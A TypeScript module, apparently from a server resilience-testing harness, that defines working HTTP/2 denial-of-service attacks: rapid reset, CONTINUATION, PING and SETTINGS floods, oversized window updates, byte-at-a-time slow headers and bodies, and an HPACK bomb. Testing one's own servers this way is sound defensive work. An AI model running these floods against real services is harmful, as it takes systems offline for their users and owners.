import { frameAttack } from './attack.ts';
import type { Attack } from './attack.ts';
import type { RawConnection, Target } from './raw-connection.ts';
import {
  callHeaders,
  flags,
  frame,
  frameTypes,
  literal,
  newestEntry,
  numberFrame,
} from './h2-frames.ts';

const { endHeaders, endStream } = flags;
const call = callHeaders();
const cancel = 0x8;
const maxIncrement = 0x7fff_ffff;

/** A client may use odd numbers, each once. */
function streamAt(at: number): number {
  return 1 + 2 * at;
}

function headers(stream: number, block: Uint8Array, flag: number): Buffer {
  return frame({ type: frameTypes.headers, stream, payload: block, flags: flag });
}

/** A call by somebody who may call, whose message has begun. */
function begun(stream: number, { token }: Target): Buffer {
  const block = callHeaders({ authorization: `Bearer ${token}` });
  return Buffer.concat([headers(stream, block, endHeaders), oneByte(stream, promised)]);
}

function oneByte(stream: number, payload = Buffer.from([0x0a])): Buffer {
  return frame({ type: frameTypes.data, stream, payload });
}

function stopReading(connection: RawConnection): Promise<void> {
  connection.stopReading();
  return Promise.resolve();
}

function many(count: number, make: (at: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));
}

const ping = frame({ type: frameTypes.ping, payload: Buffer.alloc(8) });
const settings = frame({ type: frameTypes.settings });
const padding = literal('x-padding', 'a'.repeat(4_000));
/** The head of a message of 60,000 bytes, which are still to come. */
const promised = Buffer.from([0, 0, 0, 0xea, 0x60]);
const portion = 100;
const slowlyMs = 100;

/** Frames in numbers, orders and sizes that no honest client would send. */
export const frameAttacks: readonly Attack[] = [
  {
    name: 'HTTP/2 rapid reset',
    run: frameAttack({
      connections: 4,
      portion: (connection, at) =>
        connection.send(
          many(portion, (within) => {
            const stream = streamAt(at * portion + within);
            return Buffer.concat([
              headers(stream, call, endHeaders),
              numberFrame(frameTypes.resetStream, stream, cancel),
            ]);
          }),
        ),
    }),
  },
  {
    name: 'CONTINUATION flood',
    isShownByOthers: true,
    run: frameAttack({
      connections: 4,
      open: (connection) => connection.send(headers(1, call, 0)),
      portion: (connection) =>
        connection.send(
          many(4, () => frame({ type: frameTypes.continuation, stream: 1, payload: padding })),
        ),
    }),
  },
  {
    name: 'PING flood by a client that does not read',
    isShownByOthers: true,
    run: frameAttack({
      connections: 4,
      open: stopReading,
      portion: (connection) => connection.send(many(portion, () => ping)),
    }),
  },
  {
    name: 'SETTINGS flood by a client that does not read',
    isShownByOthers: true,
    run: frameAttack({
      connections: 4,
      open: stopReading,
      portion: (connection) => connection.send(many(portion, () => settings)),
    }),
  },
  {
    name: 'WINDOW_UPDATE beyond the largest window',
    isShownByOthers: true,
    run: frameAttack({
      connections: 4,
      portion: (connection, at) =>
        connection.send(
          Buffer.concat([
            headers(streamAt(at), call, endHeaders),
            numberFrame(frameTypes.windowUpdate, streamAt(at), maxIncrement),
            numberFrame(frameTypes.windowUpdate, 0, maxIncrement),
          ]),
        ),
    }),
  },
  {
    name: 'headers that come a byte at a time and never end',
    run: frameAttack({
      connections: 100,
      everyMs: slowlyMs,
      open: (connection) => connection.send(headers(1, call, 0)),
      portion: (connection) =>
        connection.send(
          frame({ type: frameTypes.continuation, stream: 1, payload: Buffer.from([0x00]) }),
        ),
    }),
  },
  {
    name: 'bodies that come a byte at a time and never end',
    run: frameAttack({
      connections: 30,
      everyMs: slowlyMs,
      open: (connection, target) => connection.send(many(16, (at) => begun(streamAt(at), target))),
      portion: (connection) => connection.send(many(16, (at) => oneByte(streamAt(at)))),
    }),
  },
  {
    name: 'DATA frames of one byte',
    isShownByOthers: true,
    run: frameAttack({
      connections: 4,
      portion: async (connection, at, target) => {
        // One stream after the other: a message of single bytes, never whole.
        if (at % 500 === 0) await connection.send(begun(streamAt(at), target));
        await connection.send(many(portion, () => oneByte(streamAt(at - (at % 500)))));
      },
    }),
  },
  {
    name: 'HPACK bomb: one long cookie, named thousands of times',
    isShownByOthers: true,
    run: frameAttack({
      connections: 4,
      portion: (connection, at) =>
        connection.send(
          headers(
            streamAt(at),
            Buffer.concat([
              call,
              literal('cookie', 'a'.repeat(3_900), true),
              many(4_000, () => newestEntry),
            ]),
            endHeaders | endStream,
          ),
        ),
    }),
  },
];
